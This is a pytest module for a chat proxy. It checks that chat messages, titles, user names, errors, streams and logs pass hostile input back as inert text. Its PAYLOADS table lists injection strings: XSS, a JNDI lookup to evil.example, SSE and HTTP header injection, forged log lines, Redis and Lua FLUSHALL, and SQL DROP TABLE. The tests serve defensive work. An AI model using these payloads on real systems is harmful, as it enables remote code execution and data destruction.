"""Texts that mean something to a browser, a stream, a log or Redis: here they are texts."""

from __future__ import annotations

from typing import TYPE_CHECKING, Any

import orjson
import pytest

from proxy.domain.identifiers import new_turn_id
from proxy.store.connection import Command
from tests.openai.relaying import CHAT, RESPONSES, data, words
from tests.streaming.listening import listen
from tests.streaming.listening import words as spoken
from tests.support.keys import issue
from tests.support.waiting import wait_until

if TYPE_CHECKING:
    import requests

    from proxy.store.connection import Store
    from tests.support.service import Client, Service
    from tests.support.simulator import Control

PAYLOADS = {
    "a script": "<script>alert(1)</script>",
    "an attribute": "\"><img src=x onerror=alert(1)>'",
    "a closing tag": "</title></textarea><svg/onload=alert(1)>",
    "a link": "[x](javascript:alert(1)) <a href='data:text/html,x'>",
    "a template": "{{7*7}} ${7*7} #{7*7} <%= 7*7 %> %s %n {0.__class__}",
    "JNDI": "${jndi:ldap://evil.example/a}",
    "events": "x\n\nevent: done\ndata: {}\n\n",
    "events with CRLF": "x\r\n\r\nevent: error\r\ndata: {}\r\n\r\n",
    "events with CR": "x\r\rid: 99\rdata: [DONE]\r\r",
    "an end": "data: [DONE]\n\ndata: [DONE]\n\n",
    "a retry": "\nretry: 1\n: comment\n\n",
    "separators": "a\u2028b\u2029c\u0085d\x0b\x0c",
    "headers": "x\r\nX-Evil: 1\r\nSet-Cookie: a=b\r\n\r\n<html>",
    "a line of the log": 'x"}\n{"event":"request","key":"forged","status":200}',
    "a terminal": "\x1b]0;evil\x07\x1b[31m\x1b[2J\x08\x7f",
    "a NUL": "a\x00b",
    "Redis": "*\r\n$8\r\nFLUSHALL\r\n{x}:?[a-z]*",
    "Lua": "'..redis.call('FLUSHALL')..' %a+ %z",
    "SQL": "' OR 1=1; DROP TABLE sessions;--",
    "bidi": "\u202egpj.exe\u2066\u200b\ufeff",
    "emoji and a far plane": "\U0001f468\u200d\U0001f469 \U0010ffff",
}


@pytest.fixture(params=PAYLOADS)
def payload(request: pytest.FixtureRequest) -> str:
    return PAYLOADS[request.param]


@pytest.fixture(scope="module")
def caller(service: Service, store: Store) -> Client:
    return service.client(issue(store, rpm=0, tpm=0)[1])


def harmless(answer: requests.Response, kind: str = "application/json") -> None:
    """An answer that no browser takes for a page, and without headers of the payload."""
    assert answer.headers["Content-Type"].split(";")[0] == kind
    assert answer.headers["X-Content-Type-Options"] == "nosniff"
    assert "default-src 'none'" in answer.headers["Content-Security-Policy"]
    assert not {"x-evil", "set-cookie"} & {name.lower() for name in answer.headers}


def test_a_message_comes_back_as_it_is_whatever_it_means(
    caller: Client, chatgpt: Control, payload: str
) -> None:
    chatgpt.queue(text=payload)
    answer = caller.chat(payload)
    harmless(answer)
    assert answer.json()["reply"] == payload
    path = f"/sessions/{answer.json()['session_id']}"
    (turn,) = caller.get(path).json()["turns"]
    assert (turn["message"], turn["reply"]) == (payload, payload)
    harmless(caller.get(path))
    harmless(caller.get(f"{path}/export?format=markdown"), "text/markdown")


def test_a_text_comes_back_as_text(caller: Client, chatgpt: Control, payload: str) -> None:
    chatgpt.queue(text=payload)
    body = {"message": "Hello"}
    harmless(caller.post("/chat", json=body, headers={"Accept": "text/plain"}), "text/plain")


def test_words_make_no_events(caller: Client, chatgpt: Control, payload: str) -> None:
    chatgpt.queue(text=payload)
    events = listen(caller, payload)
    assert spoken(events) == payload
    assert {event.kind for event in events} == {"start", "delta", "done"}
    assert [event.id for event in events] == [*range(1, len(events) + 1)]
    assert events[-1].data["reply"] == payload


def test_words_make_no_chunks(caller: Client, chatgpt: Control, payload: str) -> None:
    for path in (CHAT, RESPONSES):
        chatgpt.queue(path=path, text=payload)
    asked: dict[str, Any] = {"model": "gpt-6-luna", "stream": True}
    messages = [{"role": "user", "content": "Hello"}]
    chunks = caller.post(CHAT, json=asked | {"messages": messages}).content
    assert words(chunks) == payload
    assert chunks.count(b"data: [DONE]\n\n") == 1
    told = caller.post(RESPONSES, json=asked | {"input": "Hello"}).content
    deltas = [one["delta"] for one in data(told) if one["type"] == "response.output_text.delta"]
    assert "".join(deltas) == payload


def test_a_title_is_a_title(caller: Client, payload: str) -> None:
    title = payload[:200]
    made = caller.post("/sessions", json={"title": title})
    harmless(made)
    assert made.json()["title"] == title
    listed = caller.get("/sessions", params={"limit": 100})
    harmless(listed)
    assert title in {session["title"] for session in listed.json()["data"]}


def test_an_error_that_repeats_what_was_sent_is_no_page(caller: Client, payload: str) -> None:
    refusals = [
        caller.chat("Hello", **{payload: 1}),
        caller.chat("Hello", persona=payload),
        caller.chat("Hello", model=payload),
        caller.chat("Hello", session_id=payload),
        caller.get("/sessions", params={"cursor": payload}),
        caller.post("/sessions/s_aaaaaaaaaaaaaaaaaaaaaa/fork", json={"turn": payload}),
    ]
    for answer in refusals:
        assert 400 <= answer.status_code < 500
        harmless(answer)
        assert answer.json()["error"]["message"]
    as_text = caller.post("/chat", json={payload: 1}, headers={"Accept": "text/plain"})
    harmless(as_text, "text/plain")
    assert len(as_text.text.splitlines()) == 1


def test_the_log_holds_no_text_and_each_line_is_ours(
    service: Service, caller: Client, payload: str
) -> None:
    marked = f"marked-{new_turn_id()} {payload}"
    assert caller.chat(marked).ok
    answer = caller.get(f"/nothing/{new_turn_id()}", params={"q": marked}, headers={"Referer": "x"})
    wait_until(lambda: answer.headers["X-Request-ID"] in service.log, "the line in the log")
    assert marked[:31] not in service.log
    lines = [orjson.loads(line) for line in service.log.splitlines() if line.startswith("{")]
    assert "forged" not in {line.get("key") for line in lines}
    assert "\x1b" not in service.log


def test_a_search_is_for_the_text_alone(caller: Client, payload: str) -> None:
    query = payload[:200].strip()
    caller.post("/sessions", json={"title": f"before {query} after"})
    found = caller.get("/sessions", params={"q": query, "limit": 100}).json()["data"]
    assert found or "\0" in query  # which no title is searched with
    assert all(query.lower() in session["title"].lower() for session in found)


def test_a_user_s_name_is_a_name(
    service: Service, redis_admin: Store, caller: Client, payload: str
) -> None:
    name = payload[:128]
    minted = caller.post("/tokens", json={"user": name})
    assert minted.status_code == (201 if name.isprintable() else 400)
    if minted.ok:
        user = service.client(minted.json()["token"])
        assert user.chat("Hello").ok
        assert [session["turn_count"] for session in user.get("/sessions").json()["data"]]
    keys = redis_admin.run(Command(("KEYS", "*"), list))
    assert all(
        key.startswith(b"cp:") and key.isascii() and key.decode().isprintable() for key in keys
    )


def test_an_idempotency_key_is_no_pattern(caller: Client) -> None:
    for pattern in ("*", "?", "[a-z]*", "{x}", "a:b:c", "../..", "\\*", "%00"):
        first = caller.post("/chat", json={"message": "A"}, headers={"Idempotency-Key": pattern})
        again = caller.post("/chat", json={"message": "A"}, headers={"Idempotency-Key": pattern})
        assert first.json() == again.json()
        assert "Idempotent-Replayed" not in first.headers
